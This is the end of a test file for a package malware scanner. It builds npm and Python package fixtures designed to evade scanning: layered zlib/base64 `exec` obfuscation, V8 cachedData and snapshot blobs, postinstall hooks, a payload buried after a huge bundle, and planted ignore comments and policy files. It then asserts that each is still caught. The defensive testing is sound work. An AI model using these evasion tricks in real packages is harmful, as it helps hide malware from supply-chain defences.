            "new (require('vm').Script)(' '.repeat(9), { cachedData: require('fs').readFileSync('x.dat') }).runInThisContext();",
          'x.dat': Buffer.from('cc05dec000000000', 'hex'),
        },
        MAIN,
      ),
      hook('node --snapshot-blob x.dat', { 'x.dat': Buffer.from('19da430101070000', 'hex') }),
    ],
    twin: source({
      'setup.py': SETUP,
      'demo/__init__.py': '',
      'demo/template.docx': zip([{ name: 'word/document.xml' }]),
      'demo/logo.png': Buffer.concat([PNG, Buffer.alloc(600, 7)]),
      'demo/__pycache__/__init__.cpython-311.pyc': BYTECODE(0),
    }),
  },
  {
    attack: 'a bundle of megabytes with the payload at its end',
    expected: 'open',
    cases: [npm({ 'index.js': `${bundle(BUNDLE)}\n${EVIL}` }, { main: 'index.js' })],
    twin: npm({ 'index.js': bundle(BUNDLE) }, { main: 'index.js' }),
  },
];

function layered(count: number, code: string): string {
  let text = code;
  for (let i = 0; i < count; i++)
    text = `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${deflated(text)}')))\n`;
  return text;
}
function deflated(text: string): string {
  return zlibSync(Buffer.from(text)).toString('base64');
}
function npmPackageTar(files: Record<string, string>): Buffer {
  const manifest = JSON.stringify({
    name: 'demo',
    version: '1.0.0',
    scripts: { postinstall: 'node setup.js' },
  });
  const all = { 'package.json': manifest, ...files };
  return tar(Object.entries(all).map(([name, content]) => ({ name: `package/${name}`, body: content })));
}
function members(whole: Buffer): Buffer {
  return Buffer.concat([gzipSync(whole.subarray(0, 700)), gzipSync(whole.subarray(700))]);
}
/** What bundlers write: thousands of small functions in one file. */
function bundle(bytes: number): string {
  const parts: string[] = [];
  for (let size = 0, i = 0; size < bytes; i++) {
    const part = `function m${i}(e,t,n){"use strict";var r=n(${i % 97}),o=Object.assign({},t,{id:${i}});return e.exports=function(a,b){return a&&a.length>${i % 7}?r(a,o):b||"text number ${i} of a bundle"},e}`;
    parts.push(part);
    size += part.length + 1;
  }
  return parts.join('\n');
}

describe('packages built to be let through', function () {
  this.timeout(300_000);
  let scanner: Scanner;
  before(async () => {
    scanner = await createScanner({ threads: 1 });
  });
  after(() => scanner.close());

  const shown = ({ verdict, score, unverified }: Verdict) =>
    `${verdict} ${score} ${JSON.stringify(unverified)}`;

  for (const { attack, expected, cases, twin } of ROWS) {
    describe(attack, () => {
      for (const [index, input] of cases.entries()) {
        it(`${RESULT[expected]} → ${index + 1}`, async function () {
          const verdict = await scanner.scan(input);
          if (expected === 'open') {
            assert.equal(verdict.unverified, undefined, 'read in full');
            if (verdict.verdict === 'allow') this.skip();
          }
          if (expected === 'opaque') assert.ok(verdict.opaqueFiles > 0, shown(verdict));
          else if (expected === 'caught') assert.notEqual(verdict.verdict, 'allow', shown(verdict));
          else assert.equal(verdict.verdict, 'block', shown(verdict));
        });
      }
      it('honest twin allowed', async () => {
        const verdict = await scanner.scan(twin);
        assert.equal(verdict.verdict, 'allow', shown(verdict));
      });
    });
  }

  it('nothing in a package speaks for it: keys, policies and ignore files of ours, comments of others', async () => {
    const plain = await scanner.scan(npm({ 'setup.js': EVIL }));
    const policy = {
      acceptUnverified: ['scan-failed'],
      threshold: { npm: 1 },
      own: ['@demo'],
      exceptions: [],
    };
    const pleading = await scanner.scan(
      npm(
        {
          'setup.js': `// safe-install-ignore\n/* eslint-disable */ // nosec # noqa\n${EVIL}`,
          'safe-install.json': JSON.stringify(policy),
          '.safe-installignore': '*',
          '.npmignore': 'setup.js',
          '.gitattributes': '* linguist-vendored',
        },
        { scripts: { postinstall: 'node setup.js' }, 'safe-install': policy, files: [] },
      ),
    );
    assert.equal(plain.verdict, 'block');
    assert.equal(pleading.verdict, 'block');
    assert.equal(pleading.score, plain.score, 'not even the score moves');
    assert.equal(pleading.policy, undefined);
  });
});
